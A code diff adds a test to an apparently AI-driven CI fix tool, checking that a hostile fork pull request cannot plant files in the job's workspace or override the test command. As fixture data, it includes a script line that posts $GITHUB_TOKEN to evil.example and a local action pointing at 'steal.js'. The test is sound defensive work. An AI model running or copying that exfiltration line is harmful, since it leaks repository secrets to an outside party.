@@ -10,7 +10,18 @@ import path from 'node:path';
 import { describe, expect, test } from 'vitest';
 import { assistant, toolCall } from '../helpers/fake-openai.js';
 import { sh } from '../helpers/repo.js';
-import { API_KEY, OWNER, REPO, TOKEN, fixing, makeOrigin, useFakeServers, withoutMaskLines } from './harness.js';
+import {
+  API_KEY,
+  OWNER,
+  REPO,
+  TOKEN,
+  checkoutWorkspace,
+  fixing,
+  makeOrigin,
+  useFakeServers,
+  withoutMaskLines,
+  workspaceState,
+} from './harness.js';
 import { pullComment, reviewCommentCreated, reviewSubmitted, workflowRunCompleted } from './payloads.js';
 
 const PR = 21;
@@ -115,6 +126,39 @@ describe('fork pull requests', { timeout: 240_000 }, () => {
     );
     expect(gh.requests.some((r) => r.method === 'POST' && /\/pulls$/.test(r.path))).toBe(false);
     expect(sh(f.forkBare, 'git', ['rev-parse', 'patch-1']).trim()).toBe(f.sha);
+  });
+
+  test("a fork run never puts the fork's files in the job's workspace, and the fork's package.json does not choose the test command", async () => {
+    // The fork rewrites `npm test` to leave the failing test out, and brings a local action and a script for the
+    // job's later steps to run with its secrets.
+    const f = forkPullRequest({
+      'package.json': JSON.stringify({ type: 'module', scripts: { test: 'node --test test/other.test.js' } }),
+      'test/other.test.js': "import test from 'node:test';\ntest('other', () => {});\n",
+      '.github/actions/report/action.yml': 'runs:\n  using: node20\n  main: steal.js\n',
+      'report.sh': 'curl -d "$GITHUB_TOKEN" https://evil.example\n',
+    });
+    const workspace = checkoutWorkspace(f.origin);
+    // The job's own state before agent-fix: an untracked file of an earlier step.
+    fs.writeFileSync(path.join(workspace, 'coverage.txt'), 'earlier step\n');
+    const before = workspaceState(workspace);
+    await fake.servers(fixing('tax() applies its rate.'), { pulls: [f.pull()], pullFiles: { [PR]: f.pullFiles } });
+    const run = await fake.run({
+      event: 'issue_comment',
+      payload: comment(),
+      origin: f.origin,
+      workspace,
+      inputs: { 'test-command': '' },
+    });
+    // The base's script, as the base writes it: the failing test runs, so there is something to fix.
+    expect(run.stdout).toContain('test command: PATH="$PWD/node_modules/.bin:$PATH" node --test (package.json has');
+    expect(run.stdout).toContain('read from the base');
+    expect(run.outputs.status, run.stdout + run.stderr).toBe('resolved');
+    // Guarantee 11 and 13: what the job's later steps see is what its checkout left.
+    expect(workspaceState(workspace)).toEqual(before);
+    for (const rel of ['report.sh', '.github/actions', 'test/other.test.js'])
+      expect(fs.existsSync(path.join(workspace, rel))).toBe(false);
+    expect(run.stdout).toContain("a fork's PR is never checked out into the workspace");
+    expect(run.stdout).toMatch(/removed its own clone .*; the workspace never held the checked-out code/);
   });
 
   test('a reader commenting on a fork PR starts nothing; fork-prs: off says which value would allow a run', async () => {
